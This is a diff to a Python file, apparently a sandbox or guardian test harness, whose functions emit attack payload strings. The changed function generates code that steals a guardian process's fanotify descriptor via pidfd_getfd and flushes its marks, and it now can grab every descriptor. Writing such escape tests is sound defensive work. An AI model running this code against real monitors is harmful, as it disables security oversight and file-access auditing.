@@ -281,12 +281,13 @@ def py_proc_mem_variant(pid: int, tid: int, variant: str) -> str:
             "print('opened', fd)")
 
 
-def py_pidfd_getfd_flush(gpid: int) -> str:
-    """Steal the guardian's fanotify fd with pidfd_getfd and flush its marks."""
+def py_pidfd_getfd_flush(gpid: int, match: str = "fanotify") -> str:
+    """Steal the guardian's fanotify fd (``match`` in its link; "" = every fd) with
+    pidfd_getfd and flush its marks."""
     return ("import ctypes, os\n"
             "libc = ctypes.CDLL(None, use_errno=True)\n"
             f"fds = [int(f) for f in os.listdir('/proc/{gpid}/fd') "
-            f"if 'fanotify' in os.readlink('/proc/{gpid}/fd/' + f)]\n"
+            f"if {match!r} in os.readlink('/proc/{gpid}/fd/' + f)]\n"
             f"pfd = os.pidfd_open({gpid})\n"
             "for n in fds:\n"
             "    fd = libc.syscall(438, pfd, n, 0)\n"
